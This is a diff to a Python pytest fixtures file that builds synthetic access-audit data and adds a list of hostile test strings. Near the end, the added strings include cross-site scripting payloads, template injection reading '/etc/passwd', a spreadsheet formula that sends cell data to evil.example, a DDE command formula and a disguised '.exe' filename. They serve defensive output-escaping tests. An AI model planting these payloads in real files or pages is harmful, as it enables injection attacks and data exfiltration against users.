@@ -59,7 +59,9 @@ REASONS = {
 }
 
 GIVEN = "Ada Grace Katherine Alan Barbara Edsger Radia Donald Frances Ken Margaret Tim Hedy Linus Anita Dennis".split()
-FAMILY = "Lovelace Hopper Johnson Turing Liskov Dijkstra Perlman Knuth Allen Thompson Hamilton Berners-Lee Lamarr".split()
+FAMILY = (
+    "Lovelace Hopper Johnson Turing Liskov Dijkstra Perlman Knuth Allen Thompson Hamilton Berners-Lee Lamarr".split()
+)
 ENTITLEMENTS = ("Workspace Admins", "Billing", "AP-Vendor-Create", "AP-Payment-Release", "prod-deploy", "Domain Users")
 
 
@@ -82,7 +84,9 @@ class Story:
         order = {name: place for place, name in enumerate(reversed(tables.SEVERITIES))}
         rows = []
         for number in range(self.size):
-            kind, _, family, severity, _ = chance.choices(KINDS[:-3], weights)[0] if number >= 4 else KINDS[-(1 + number % 3)]
+            kind, _, family, severity, _ = (
+                chance.choices(KINDS[:-3], weights)[0] if number >= 4 else KINDS[-(1 + number % 3)]
+            )
             app = chance.choice(listed or [None])
             if kind == "not-audited":
                 app = "fax"
@@ -116,7 +120,9 @@ class Story:
                     "actual": _actual(kind, chance),
                     "evidence": None if data else f"apps.{app}.listings[0] body {number // 100} row {number % 100}",
                     "first_seen": NOW - timedelta(days=chance.choice((0, 0, 7, 30, 91))),
-                    "disposition": chance.choices(("open", "excepted", "snoozed", "remediation-claimed"), (90, 5, 3, 2))[0],
+                    "disposition": chance.choices(
+                        ("open", "excepted", "snoozed", "remediation-claimed"), (90, 5, 3, 2)
+                    )[0],
                     "exception_id": None,
                     "lead": number < 4 or chance.random() > 0.1,
                     "covered_by": None,
@@ -144,7 +150,9 @@ class Story:
                     continue
                 population = 300 + len(app) * 11 + len(kind)
                 failed = 0 if said == "clean" else len(kind) % 7
-                unknown = population - failed if walk != "complete" and family == "excess" else 12 if scope != "all" else 0
+                unknown = (
+                    population - failed if walk != "complete" and family == "excess" else 12 if scope != "all" else 0
+                )
                 reason = "walk-unproven" if unknown > 12 else "scope-unproven 12" if unknown else None
                 rows.append((kind, app, population, failed, population - failed - unknown, unknown, reason))
         columns = dict(zip(tables.CHECKS.names, map(list, zip(*rows, strict=True)), strict=True)) if rows else {}
@@ -154,7 +162,8 @@ class Story:
         findings = self.findings()
         lead = findings[findings["lead"].astype(bool)]
         counts = {
-            app: Counter(severities) for app, severities in lead.groupby("app", observed=True)["severity"].apply(list).items()
+            app: Counter(severities)
+            for app, severities in lead.groupby("app", observed=True)["severity"].apply(list).items()
         }
         apps = tuple(_app(*app, counts.get(app[0], {})) for app in self.apps)
         listings = tuple(_listing(app) for app in apps if app.verdict != "not audited")
@@ -335,3 +344,43 @@ def hostile() -> Callable[[str], Audit]:
         return story.audit()
 
     return make
+
+
+POISONS = {
+    "script": "<script>window.pwned=1</script>",
+    "end-of-script": "</script><script>window.pwned=1</script><!--<script>",
+    "image": "<img src=x onerror=window.pwned=1>",
+    "attribute": '" onmouseover="window.pwned=1" x=\'',
+    "style": "</style><style>*{display:none}</style>",
+    "title": "</title></svg></template><script>window.pwned=1</script>",
+    "address": "javascript:window.pwned=1",
+    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
+    "formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+    "command": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "break-out": 'a";=1+1;"',
+    "apostrophe": "'=1+1",
+    "link": "https://evil.example/",
+    "number": "00123",
+    "excel-escape": "_x0041__x000D_",
+    "override": "user\u202egpj.exe",
+    "invisible": "a\u200bd\u2028m\u2029in\ufeff",
+    "nul": "nul\0nul",
+    "terminal": "\x1b]8;;https://evil.example\x07x\x1b[2J0 findings",
+    "lines": "one\r\ntwo\nthree",
+    "mark": "⟦U+0041⟧",
+    "long": "A<b>=" * 20_000,
+}
+
+
+@pytest.fixture(params=POISONS.values(), ids=POISONS.keys())
+def poison(request: pytest.FixtureRequest) -> str:
+    """A text that some program that shows it would act on."""
+    return str(request.param)
+
+
+@pytest.fixture(scope="session")
+def poisons() -> list[str]:
+    return list(POISONS.values())
